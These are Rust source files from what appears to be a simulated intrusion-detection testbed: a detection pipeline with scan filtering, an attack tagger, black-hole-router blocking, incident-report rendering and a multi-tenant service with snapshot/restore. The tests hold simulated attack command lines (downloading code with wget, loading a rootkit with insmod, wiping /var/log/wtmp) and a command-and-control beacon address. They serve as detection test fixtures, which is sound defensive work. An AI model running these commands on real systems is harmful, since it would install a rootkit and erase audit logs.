    use telemetry::zeek::ZeekMonitor;

    fn sink() -> PipelineSink {
        PipelineSink::new(
            vec![
                Box::new(ZeekMonitor::with_defaults()),
                Box::new(HostMonitor::new()),
            ],
            Symbolizer::new(SymbolizerConfig::default()),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            BhrHandle::new(),
            true,
            None,
        )
    }

    #[test]
    fn scan_flood_is_filtered_not_detected() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..500u64 {
            let t = SimTime::from_secs(i);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.1.1".parse().unwrap(),
                    format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.actions, 500);
        assert!(report.alerts >= 500, "each probe symbolizes");
        assert!(
            report.alerts_filtered < 20,
            "scan flood must collapse: {}",
            report.alerts_filtered
        );
        assert_eq!(
            report.detections, 0,
            "scans alone must not trigger preemption"
        );
    }

    #[test]
    fn detection_blocks_source_at_bhr() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // A malicious host session: process records that symbolize into the
        // S1 chain for one user.
        let host = simnet::topology::HostId(0);
        let cmds = [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ];
        for (i, c) in cmds.iter().enumerate() {
            engine.schedule(
                SimTime::from_secs(10 + i as u64 * 60),
                Action::Exec(simnet::action::ExecAction {
                    host,
                    user: "eve".into(),
                    pid: 100 + i as u32,
                    ppid: 1,
                    exe: "/bin/sh".into(),
                    cmdline: c.to_string(),
                }),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.detections, 1, "S1 chain must be detected once");
        assert_eq!(report.notifications.len(), 1);
        let n = &report.notifications[0];
        assert!(n.message.contains("preemption"));
        // Host-only alerts carry no src address, so no block is installed —
        // but the notification still fires.
        assert_eq!(report.blocked_sources, 0);
    }

    #[test]
    fn network_detection_installs_block() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // Outbound C2-ish: configure symbolizer with a C2 feed.
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.22.33".parse().unwrap());
        let mut s = PipelineSink::new(
            vec![Box::new(ZeekMonitor::with_defaults())],
            Symbolizer::new(cfg),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            BhrHandle::new(),
            true,
            None,
        );
        // Repeated C2 beacons from one internal source push its entity
        // posterior over the threshold.
        for i in 0..6u64 {
            let t = SimTime::from_secs(i * 30);
            engine.schedule(
                t,
                Action::Flow(Flow::established(
                    FlowId(i),
                    t,
                    simnet::time::SimDuration::from_secs(2),
                    "141.142.77.10".parse().unwrap(),
                    40_000,
                    "194.145.22.33".parse().unwrap(),
                    443,
                    2_000,
                    500,
                )),
            );
        }
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.detections >= 1, "beaconing must be detected");
        assert_eq!(report.blocked_sources, 1);
        assert!(s
            .bhr()
            .is_blocked(SimTime::from_secs(600), "141.142.77.10".parse().unwrap()));
    }
}
