//! Run reports and operator notifications.

use alertlib::filter::FilterStats;
use bhr::table::TableStats;
use detect::attack_tagger::Detection;
use serde::{Deserialize, Serialize};
use simnet::router::RouterStats;
use simnet::time::SimTime;

/// A notification sent to security operators — the §V mechanism that gave
/// NCSA its twelve-day warning.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OperatorNotification {
    pub ts: SimTime,
    /// Canonical entity key (`user:…` / `addr:…`), resolved against the
    /// pipeline's scope at notification time. A plain string rather than
    /// an interned handle so notifications stay valid after a tenant's
    /// symbol scope is evicted.
    pub entity: String,
    pub detection: Detection,
    pub message: String,
    /// Which detector raised it.
    pub source: String,
}

/// Per-stage counters of one testbed run (Fig. 4's E1..En → response).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct RunReport {
    /// Actions processed by the engine.
    pub actions: u64,
    /// Log records produced by the monitors.
    pub records: u64,
    /// Alerts after symbolization.
    pub alerts: u64,
    /// Alerts after the repeated-scan filter.
    pub alerts_filtered: u64,
    /// Detections raised.
    pub detections: u64,
    /// Notifications delivered to operators.
    pub notifications: Vec<OperatorNotification>,
    /// Border router counters.
    pub router: RouterStats,
    /// Filter counters.
    pub filter: FilterStats,
    /// Black-hole-router counters.
    pub bhr: TableStats,
    /// Sources blocked during the run.
    pub blocked_sources: u64,
    /// Admitted alerts not retained for analysis because the retention
    /// cap was exceeded. Zero when retention is disabled.
    pub alerts_dropped: u64,
    /// Admitted alerts not retained because retention was disabled
    /// (`alert_retention == 0`, e.g. stats-only runs) — deliberately not
    /// counted as drops.
    pub alerts_discarded: u64,
}

impl RunReport {
    /// First notification time, if any — the preemption instant.
    pub fn first_notification(&self) -> Option<SimTime> {
        self.notifications.iter().map(|n| n.ts).min()
    }

    /// Human summary block.
    pub fn summary(&self) -> String {
        format!(
            "actions={} records={} alerts={} filtered={} detections={} blocked={} (router: {} flows, {} dropped)",
            self.actions,
            self.records,
            self.alerts,
            self.alerts_filtered,
            self.detections,
            self.blocked_sources,
            self.router.total(),
            self.router.dropped,
        )
    }
}

/// Render an operator-facing incident report in the style of the §V
/// incident snippet ("Alerted to the following downloads to this host at
/// 3:44a …"): a timestamped narrative of the notifications of one run.
pub fn render_incident_report(report: &RunReport) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(out, "SECURITY INCIDENT REPORT (auto-generated)");
    let _ = writeln!(out, "=========================================");
    let _ = writeln!(
        out,
        "pipeline: {} actions, {} alerts ({} after filtering), {} detections",
        report.actions, report.alerts, report.alerts_filtered, report.detections
    );
    let _ = writeln!(
        out,
        "response: {} sources null-routed, {} border drops",
        report.blocked_sources, report.router.dropped
    );
    if report.notifications.is_empty() {
        let _ = writeln!(out, "\nNo preemption notifications were raised.");
        return out;
    }
    let _ = writeln!(out, "\nTimeline:");
    for n in &report.notifications {
        let (h, m, _) = n.ts.time_of_day();
        let d = n.ts.date();
        let _ = writeln!(
            out,
            "  {} {:02}:{:02}  Alerted to {} activity by {}: trigger {} (stage {}, p={:.2})",
            d, h, m, n.source, n.entity, n.detection.trigger, n.detection.stage, n.detection.score
        );
    }
    if let Some(first) = report.first_notification() {
        let _ = writeln!(out, "\nFirst warning delivered at {first}.");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::taxonomy::AlertKind;
    use detect::stage::Stage;

    #[test]
    fn first_notification_and_summary() {
        let mut r = RunReport::default();
        assert!(r.first_notification().is_none());
        let det = Detection {
            ts: SimTime::from_secs(100),
            alert_index: 3,
            trigger: AlertKind::C2Communication,
            score: 0.93,
            stage: Stage::Lateral,
        };
        r.notifications.push(OperatorNotification {
            ts: SimTime::from_secs(100),
            entity: "user:postgres".into(),
            detection: det.clone(),
            message: "ransomware".into(),
            source: "attack-tagger".into(),
        });
        r.notifications.push(OperatorNotification {
            ts: SimTime::from_secs(50),
            entity: "user:x".into(),
            detection: det,
            message: "other".into(),
            source: "attack-tagger".into(),
        });
        assert_eq!(r.first_notification(), Some(SimTime::from_secs(50)));
        assert!(r.summary().contains("detections=0"));
    }

    #[test]
    fn incident_report_rendering() {
        let mut r = RunReport::default();
        let rendered = render_incident_report(&r);
        assert!(rendered.contains("No preemption notifications"));

        r.notifications.push(OperatorNotification {
            ts: SimTime::from_datetime(2024, 10, 30, 3, 44, 0),
            entity: "user:postgres".into(),
            detection: Detection {
                ts: SimTime::from_datetime(2024, 10, 30, 3, 44, 0),
                alert_index: 3,
                trigger: AlertKind::ElfMagicInDbBlob,
                score: 0.97,
                stage: Stage::Foothold,
            },
            message: "ransomware".into(),
            source: "attack-tagger".into(),
        });
        let rendered = render_incident_report(&r);
        assert!(
            rendered.contains("03:44"),
            "snippet-style timestamp: {rendered}"
        );
        assert!(rendered.contains("alert_elf_in_db_blob"));
        assert!(rendered.contains("user:postgres"));
        assert!(rendered.contains("First warning delivered"));
    }
}
