//! Always-on multi-tenant service mode.
//!
//! The paper's deployment is not a batch job: the testbed mirrors *all*
//! production traffic into the models, continuously, for months. This
//! module packages the stage chain as a long-lived daemon:
//!
//! - **[`ServiceHandle`]** owns a worker thread driving one
//!   [`InlineCore`] per tenant. Ingestion is backpressure-aware: the
//!   control queue is bounded, [`ServiceHandle::ingest`] blocks when the
//!   worker falls behind and [`ServiceHandle::try_ingest`] refuses with
//!   [`ServiceError::Backpressure`] instead.
//! - **Tenant isolation**: each tenant gets its own detector state and —
//!   via [`TenantSymbols`] — its own symbol universe, evicted when the
//!   tenant goes away ([`ServiceHandle::evict_tenant`]). The tenant's
//!   [`SymScope`] is threaded through the whole pipeline: the factory
//!   receives it so the symbolizer, correlator and response stage all
//!   mint and resolve in the tenant's table, and ingest re-mints
//!   record symbols from the caller's global scope into it
//!   ([`LogRecord::rescope`]). Snapshots persist canonical strings,
//!   never raw symbol ids.
//! - **Snapshot / restore**: [`ServiceHandle::snapshot`] captures a
//!   tenant's full mid-stream detection state — scan-filter windows,
//!   tagger posteriors, the campaign graph, stream counters, and the
//!   scoped symbol universe — as a [`ServiceSnapshot`] that serializes to
//!   JSON ([`ServiceSnapshot::to_json`] / [`ServiceSnapshot::from_json`]).
//!   Restoring it into a fresh process and replaying the stream tail
//!   yields byte-identical detections to the uninterrupted run: a service
//!   restart loses no detections.
//!
//! Retained-alert analysis buffers are deliberately *not* part of the
//! snapshot: they are a reporting tee, not detection state, so a restored
//! session reports retention counters for its own lifetime only.

use std::fmt;
use std::sync::mpsc::{Receiver, Sender, SyncSender, TrySendError};
use std::sync::Arc;
use std::thread::JoinHandle;

use alertlib::filter::FilterSnapshot;
use detect::attack_tagger::TaggerSnapshot;
use detect::correlate::CorrelatorSnapshot;
use simnet::intern::{SymScope, TenantId, TenantSymbols};
use simnet::rng::FxHashMap;
use telemetry::record::LogRecord;

use crate::stage::builder::BuiltPipeline;
use crate::stage::executor::InlineCore;
use crate::stage::StreamReport;
use crate::streaming::StreamStats;

mod codec;

/// Service daemon settings.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Bound on queued control messages (ingest batches and snapshot /
    /// restore / evict requests). When the worker falls this far behind,
    /// [`ServiceHandle::ingest`] blocks and [`ServiceHandle::try_ingest`]
    /// reports [`ServiceError::Backpressure`]. Minimum 1.
    pub queue_depth: usize,
}

impl Default for ServiceConfig {
    fn default() -> Self {
        ServiceConfig { queue_depth: 64 }
    }
}

/// Why a service call failed.
#[derive(Debug, PartialEq, Eq)]
pub enum ServiceError {
    /// [`ServiceHandle::try_ingest`]: the bounded control queue is full.
    Backpressure,
    /// The worker thread has shut down (or panicked).
    ShutDown,
    /// The tenant has no live session.
    UnknownTenant(TenantId),
    /// A snapshot could not be decoded or does not fit the pipeline it is
    /// being restored into.
    MalformedSnapshot(String),
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Backpressure => write!(f, "ingest queue full (backpressure)"),
            ServiceError::ShutDown => write!(f, "service worker has shut down"),
            ServiceError::UnknownTenant(t) => write!(f, "no live session for {t}"),
            ServiceError::MalformedSnapshot(why) => write!(f, "malformed snapshot: {why}"),
        }
    }
}

impl std::error::Error for ServiceError {}

/// Everything a tenant session needs to survive a process restart, in
/// process-independent form (entities and symbols as strings, never raw
/// interner ids). Produced by [`ServiceHandle::snapshot`], consumed by
/// [`ServiceHandle::restore`]; [`to_json`](ServiceSnapshot::to_json) /
/// [`from_json`](ServiceSnapshot::from_json) round-trip it through disk.
#[derive(Debug, Clone, PartialEq)]
pub struct ServiceSnapshot {
    pub tenant: TenantId,
    /// Cumulative stream counters (records / alerts / admitted /
    /// detections) — restored sessions keep counting from here.
    pub stats: StreamStats,
    /// Scan-filter dedup windows.
    pub filter: FilterSnapshot,
    /// Tagger posteriors; `None` when the detection slot holds a
    /// baseline detector (which keeps no cross-restart state).
    pub tagger: Option<TaggerSnapshot>,
    /// Campaign graph; `None` when correlation is off.
    pub correlator: Option<CorrelatorSnapshot>,
    /// The tenant's scoped symbol universe, `(id, string)` in intern
    /// order. Ids are process-local bookkeeping; restore re-interns the
    /// strings and assigns fresh ids.
    pub sym_universe: Vec<(u32, String)>,
}

/// One tenant's live pipeline session inside the worker.
struct TenantSession {
    core: InlineCore,
    scope: SymScope,
}

enum Control {
    Ingest(TenantId, Vec<LogRecord>),
    Snapshot(TenantId, Sender<Result<Box<ServiceSnapshot>, ServiceError>>),
    Restore(Box<ServiceSnapshot>, Sender<Result<(), ServiceError>>),
    Evict(TenantId, Sender<Result<Box<StreamReport>, ServiceError>>),
    Shutdown,
    /// Test hook: park the worker until the receiver yields, making
    /// queue backpressure deterministic to provoke.
    #[cfg(test)]
    Wait(Receiver<()>),
}

/// Handle to a running multi-tenant detection service. Dropping the
/// handle shuts the worker down (discarding final reports); call
/// [`ServiceHandle::shutdown`] to collect them instead.
pub struct ServiceHandle {
    tx: SyncSender<Control>,
    worker: Option<JoinHandle<Vec<(TenantId, StreamReport)>>>,
    symbols: Arc<TenantSymbols>,
}

impl ServiceHandle {
    /// Start the service worker. `factory` builds one fresh pipeline per
    /// tenant session (tenants never share detector state); it runs on
    /// the worker thread and receives the tenant's id plus its scoped
    /// symbol table — wire the scope into the pipeline with
    /// [`PipelineBuilder::scope`](crate::stage::PipelineBuilder::scope)
    /// so the session's symbols live in the tenant's universe.
    pub fn spawn(
        config: ServiceConfig,
        mut factory: impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static,
    ) -> ServiceHandle {
        let (tx, rx) = std::sync::mpsc::sync_channel(config.queue_depth.max(1));
        let symbols = Arc::new(TenantSymbols::new());
        let worker_symbols = Arc::clone(&symbols);
        let worker = std::thread::Builder::new()
            .name("testbed-service".into())
            .spawn(move || worker_loop(rx, &worker_symbols, &mut factory))
            .expect("spawn service worker");
        ServiceHandle {
            tx,
            worker: Some(worker),
            symbols,
        }
    }

    /// Queue a record batch for `tenant`, creating its session on first
    /// use. Blocks while the control queue is full — the backpressure
    /// path for callers that would rather wait than shed load.
    pub fn ingest(&self, tenant: TenantId, records: Vec<LogRecord>) -> Result<(), ServiceError> {
        self.tx
            .send(Control::Ingest(tenant, records))
            .map_err(|_| ServiceError::ShutDown)
    }

    /// Non-blocking [`ingest`](ServiceHandle::ingest): refuses with
    /// [`ServiceError::Backpressure`] (returning the records) when the
    /// control queue is full, so load-shedding callers keep their batch.
    pub fn try_ingest(
        &self,
        tenant: TenantId,
        records: Vec<LogRecord>,
    ) -> Result<(), (ServiceError, Vec<LogRecord>)> {
        self.tx
            .try_send(Control::Ingest(tenant, records))
            .map_err(|e| match e {
                TrySendError::Full(Control::Ingest(_, r)) => (ServiceError::Backpressure, r),
                TrySendError::Disconnected(Control::Ingest(_, r)) => (ServiceError::ShutDown, r),
                _ => unreachable!("try_send returns the sent message"),
            })
    }

    /// Capture `tenant`'s full mid-stream detection state. Runs in-band
    /// on the worker (after every batch queued before it), so the
    /// snapshot is a consistent prefix of the stream.
    pub fn snapshot(&self, tenant: TenantId) -> Result<ServiceSnapshot, ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Snapshot(tenant, reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx
            .recv()
            .map_err(|_| ServiceError::ShutDown)?
            .map(|b| *b)
    }

    /// Restore a tenant session from a snapshot, creating the session if
    /// absent (the restart path). The session's pipeline comes from the
    /// service factory; the snapshot supplies its state.
    pub fn restore(&self, snapshot: ServiceSnapshot) -> Result<(), ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Restore(Box::new(snapshot), reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx.recv().map_err(|_| ServiceError::ShutDown)?
    }

    /// End a dead tenant's session: flush its pipeline, return its final
    /// report, and evict its scoped symbol universe.
    pub fn evict_tenant(&self, tenant: TenantId) -> Result<StreamReport, ServiceError> {
        let (reply_tx, reply_rx) = std::sync::mpsc::channel();
        self.tx
            .send(Control::Evict(tenant, reply_tx))
            .map_err(|_| ServiceError::ShutDown)?;
        reply_rx
            .recv()
            .map_err(|_| ServiceError::ShutDown)?
            .map(|b| *b)
    }

    /// The per-tenant symbol registry (live tenants, eviction counters,
    /// payload accounting).
    pub fn symbols(&self) -> &TenantSymbols {
        &self.symbols
    }

    /// Flush every live session and return `(tenant, final report)`
    /// pairs, ascending by tenant.
    pub fn shutdown(mut self) -> Vec<(TenantId, StreamReport)> {
        let _ = self.tx.send(Control::Shutdown);
        match self.worker.take() {
            Some(h) => h.join().unwrap_or_default(),
            None => Vec::new(),
        }
    }

    #[cfg(test)]
    fn send_wait(&self, gate: Receiver<()>) {
        let _ = self.tx.send(Control::Wait(gate));
    }
}

impl Drop for ServiceHandle {
    fn drop(&mut self) {
        if let Some(h) = self.worker.take() {
            let _ = self.tx.send(Control::Shutdown);
            let _ = h.join();
        }
    }
}

fn worker_loop(
    rx: Receiver<Control>,
    symbols: &TenantSymbols,
    factory: &mut (impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send),
) -> Vec<(TenantId, StreamReport)> {
    let mut sessions: FxHashMap<TenantId, TenantSession> = FxHashMap::default();
    let global = SymScope::global();
    loop {
        let msg = match rx.recv() {
            Ok(m) => m,
            // All handles gone: final flush below.
            Err(_) => break,
        };
        match msg {
            Control::Ingest(tenant, records) => {
                let session = session_entry(&mut sessions, symbols, factory, tenant);
                // Callers mint record symbols in the global scope;
                // re-mint them into the tenant's universe so every
                // symbol the session touches lives (and dies) with it.
                let scoped: Vec<LogRecord> = records
                    .iter()
                    .map(|r| r.rescope(&global, &session.scope))
                    .collect();
                session.core.process_records_at(None, &scoped);
            }
            Control::Snapshot(tenant, reply) => {
                let result = match sessions.get(&tenant) {
                    None => Err(ServiceError::UnknownTenant(tenant)),
                    Some(s) => Ok(Box::new(export_session(tenant, s))),
                };
                let _ = reply.send(result);
            }
            Control::Restore(snapshot, reply) => {
                let session = session_entry(&mut sessions, symbols, factory, snapshot.tenant);
                let _ = reply.send(import_session(session, &snapshot));
            }
            Control::Evict(tenant, reply) => {
                let result = match sessions.remove(&tenant) {
                    None => Err(ServiceError::UnknownTenant(tenant)),
                    Some(mut s) => {
                        s.core.flush();
                        symbols.evict(tenant);
                        Ok(Box::new(s.core.into_report()))
                    }
                };
                let _ = reply.send(result);
            }
            Control::Shutdown => break,
            #[cfg(test)]
            Control::Wait(gate) => {
                let _ = gate.recv();
            }
        }
    }
    let mut reports: Vec<(TenantId, StreamReport)> = sessions
        .into_iter()
        .map(|(tenant, mut s)| {
            s.core.flush();
            (tenant, s.core.into_report())
        })
        .collect();
    reports.sort_by_key(|(t, _)| *t);
    reports
}

fn session_entry<'a>(
    sessions: &'a mut FxHashMap<TenantId, TenantSession>,
    symbols: &TenantSymbols,
    factory: &mut (impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send),
    tenant: TenantId,
) -> &'a mut TenantSession {
    sessions.entry(tenant).or_insert_with(|| {
        let scope = symbols.scope(tenant);
        TenantSession {
            core: InlineCore::new(factory(tenant, scope.clone())),
            scope,
        }
    })
}

fn export_session(tenant: TenantId, session: &TenantSession) -> ServiceSnapshot {
    let core = &session.core;
    let scope = &session.scope;
    ServiceSnapshot {
        tenant,
        stats: core.stats,
        filter: core.filter.filter().export_state(),
        tagger: core.detect.as_tagger().map(|t| t.export_state_in(scope)),
        correlator: core.correlate.as_ref().map(|c| c.export_state_in(scope)),
        sym_universe: scope.snapshot(),
    }
}

fn import_session(session: &mut TenantSession, snap: &ServiceSnapshot) -> Result<(), ServiceError> {
    // Validate shape before mutating anything: a restore must be
    // all-or-nothing.
    if snap.tagger.is_some() && session.core.detect.as_tagger().is_none() {
        return Err(ServiceError::MalformedSnapshot(
            "snapshot carries tagger posteriors but the pipeline's detection \
             slot is not the attack tagger"
                .into(),
        ));
    }
    if snap.correlator.is_some() && session.core.correlate.is_none() {
        return Err(ServiceError::MalformedSnapshot(
            "snapshot carries a campaign graph but the pipeline has \
             correlation disabled"
                .into(),
        ));
    }
    session.core.stats = snap.stats;
    session.core.filter.filter_mut().import_state(&snap.filter);
    let scope = session.scope.clone();
    // Replay the symbol universe FIRST, in intern order, so every string
    // gets the id it had in the snapshotting process. State import below
    // re-interns entity and palette strings in snapshot-iteration order;
    // if those assignments came first, ids (and everything derived from
    // them — entity raw keys, link orientation, join-key values) would
    // drift from the uninterrupted run.
    for (_, s) in &snap.sym_universe {
        scope.sym(s);
    }
    if let Some(tagger_snap) = &snap.tagger {
        session
            .core
            .detect
            .as_tagger_mut()
            .expect("validated above")
            .import_state_in(tagger_snap, &scope);
    }
    if let Some(corr_snap) = &snap.correlator {
        session
            .core
            .correlate
            .as_mut()
            .expect("validated above")
            .import_state_in(corr_snap, &scope);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PipelineTuning;
    use crate::stage::PipelineBuilder;
    use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
    use detect::correlate::CorrelationPolicy;
    use detect::train::toy_training_model;
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::{ConnRecord, ProcessRecord};

    fn attack_records(user: &str, base: u64) -> Vec<LogRecord> {
        [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ]
        .iter()
        .enumerate()
        .map(|(i, c)| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(base + i as u64 * 60),
                host: simnet::topology::HostId(0),
                hostname: "cn01".into(),
                user: user.into(),
                pid: 100 + i as u32,
                ppid: 1,
                exe: "/bin/sh".into(),
                cmdline: (*c).into(),
            })
        })
        .collect()
    }

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    fn factory() -> impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static {
        |_, scope| {
            PipelineBuilder::new()
                .tagger(AttackTagger::new(
                    toy_training_model(),
                    TaggerConfig::default(),
                ))
                .scope(scope)
                .build()
        }
    }

    #[test]
    fn tenants_are_isolated_and_reported_separately() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let attacker = TenantId(1);
        let benign = TenantId(2);
        service.ingest(attacker, attack_records("eve", 10)).unwrap();
        service
            .ingest(benign, (0..200).map(probe_record).collect())
            .unwrap();
        let reports = service.shutdown();
        let by_tenant: FxHashMap<TenantId, &StreamReport> =
            reports.iter().map(|(t, r)| (*t, r)).collect();
        assert_eq!(reports.len(), 2);
        assert_eq!(
            by_tenant[&attacker].stats.detections, 1,
            "attacker tenant's S1 chain detected"
        );
        assert_eq!(
            by_tenant[&benign].stats.detections, 0,
            "benign tenant unaffected by the other tenant's attack"
        );
        assert!(by_tenant[&benign].stats.records == 200);
    }

    #[test]
    fn try_ingest_reports_backpressure_when_queue_full() {
        let service = ServiceHandle::spawn(ServiceConfig { queue_depth: 2 }, factory());
        // Park the worker so nothing drains.
        let (gate_tx, gate_rx) = std::sync::mpsc::channel();
        service.send_wait(gate_rx);
        let tenant = TenantId(7);
        let mut accepted = 0u32;
        let mut shed = None;
        for i in 0..8 {
            match service.try_ingest(tenant, vec![probe_record(i)]) {
                Ok(()) => accepted += 1,
                Err((e, returned)) => {
                    assert_eq!(e, ServiceError::Backpressure);
                    assert_eq!(returned.len(), 1, "shed batch handed back");
                    shed = Some(i);
                    break;
                }
            }
        }
        let shed = shed.expect("bounded queue must push back");
        assert!((1..=3).contains(&accepted), "depth-2 queue: {accepted}");
        // Release the worker; everything accepted still processes.
        gate_tx.send(()).unwrap();
        let reports = service.shutdown();
        assert_eq!(reports.len(), 1);
        assert_eq!(reports[0].1.stats.records, u64::from(accepted));
        assert!(shed >= u64::from(accepted), "shed batch was never queued");
    }

    #[test]
    fn evict_tenant_returns_report_and_frees_symbols() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let t1 = TenantId(1);
        let t2 = TenantId(2);
        service.ingest(t1, attack_records("mallory", 0)).unwrap();
        service.ingest(t2, attack_records("trent", 0)).unwrap();
        let report = service.evict_tenant(t1).unwrap();
        assert_eq!(report.stats.detections, 1);
        assert_eq!(service.symbols().tenants(), vec![t2]);
        assert_eq!(service.symbols().evicted(), 1);
        assert_eq!(
            service.evict_tenant(t1).err(),
            Some(ServiceError::UnknownTenant(t1)),
            "second evict finds no session"
        );
        // Only the surviving tenant reports at shutdown.
        let reports = service.shutdown();
        assert_eq!(reports.len(), 1);
        assert_eq!(reports[0].0, t2);
    }

    #[test]
    fn snapshot_of_unknown_tenant_fails() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        assert_eq!(
            service.snapshot(TenantId(9)),
            Err(ServiceError::UnknownTenant(TenantId(9)))
        );
    }

    #[test]
    fn restore_rejects_mismatched_pipeline() {
        // Snapshot from a tagger pipeline, restored into a service whose
        // pipelines use the critical-only baseline: must refuse.
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(3);
        service.ingest(tenant, attack_records("eve", 0)).unwrap();
        let snap = service.snapshot(tenant).unwrap();
        drop(service);
        let baseline = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
            PipelineBuilder::new()
                .critical_detector()
                .scope(scope)
                .build()
        });
        match baseline.restore(snap) {
            Err(ServiceError::MalformedSnapshot(why)) => {
                assert!(why.contains("attack tagger"), "{why}")
            }
            other => panic!("expected MalformedSnapshot, got {other:?}"),
        }
    }

    /// The tentpole invariant: snapshot mid-stream, restart into a fresh
    /// service (through the JSON wire format), replay the tail — stats
    /// and detections must be byte-identical to the uninterrupted run.
    #[test]
    fn snapshot_restore_replay_matches_uninterrupted_run() {
        let correlated_factory = |_, scope: SymScope| {
            PipelineBuilder::new()
                .tagger(AttackTagger::new(
                    toy_training_model(),
                    TaggerConfig {
                        temporal: TemporalPolicy {
                            session_timeout: Some(SimDuration::from_hours(2)),
                            ..TemporalPolicy::disabled()
                        },
                        max_entities: 64,
                        ..TaggerConfig::default()
                    },
                ))
                .correlation(CorrelationPolicy::default())
                .scope(scope)
                .build()
        };
        let tenant = TenantId(42);
        // Interleave two attack chains with probe noise so the snapshot
        // cuts through live posteriors, filter windows and campaign state.
        let stream: Vec<Vec<LogRecord>> = vec![
            attack_records("eve", 100),
            (0..300).map(probe_record).collect(),
            attack_records("mallory", 900),
            (300..600).map(probe_record).collect(),
            attack_records("trudy", 7_200),
        ];

        // Reference: uninterrupted run.
        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        for batch in &stream {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let mut reports = service.shutdown();
        let (_, reference) = reports.pop().unwrap();

        // Interrupted: head, snapshot → JSON → parse, restart, tail.
        let split = 2;
        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        for batch in &stream[..split] {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let snap = service.snapshot(tenant).unwrap();
        drop(service); // the "crash"

        let wire = snap.to_json();
        let parsed = ServiceSnapshot::from_json(&wire).expect("wire format parses");
        assert_eq!(parsed, snap, "JSON round-trip is lossless");

        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        service.restore(parsed).unwrap();
        for batch in &stream[split..] {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let mut reports = service.shutdown();
        let (_, stitched) = reports.pop().unwrap();

        assert_eq!(stitched.stats, reference.stats, "zero detection drift");
        assert_eq!(stitched.filter, reference.filter);
        assert_eq!(stitched.campaigns, reference.campaigns);
        assert_eq!(
            stitched.correlated_promotions,
            reference.correlated_promotions
        );
        assert_eq!(
            stitched.correlated_confirmations,
            reference.correlated_confirmations
        );
        assert!(
            reference.stats.detections >= 3,
            "workload must actually detect: {}",
            reference.stats.detections
        );
    }

    #[test]
    fn restored_tenant_symbol_universe_carries_over() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(5);
        service.ingest(tenant, attack_records("eve", 0)).unwrap();
        let snap = service.snapshot(tenant).unwrap();
        assert!(
            snap.sym_universe.iter().any(|(_, s)| s == "eve"),
            "ingested user names populate the scoped universe: {:?}",
            snap.sym_universe
        );
        drop(service);
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        service.restore(snap).unwrap();
        let again = service.snapshot(tenant).unwrap();
        assert!(again.sym_universe.iter().any(|(_, s)| s == "eve"));
    }

    #[test]
    fn stats_only_tuning_flows_through_service() {
        // Retention-off pipelines report discards, not drops, through
        // the service path too (PR 8 accounting fix).
        let service = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
            PipelineBuilder::new()
                .tuning(PipelineTuning {
                    alert_retention: 0,
                    ..PipelineTuning::default()
                })
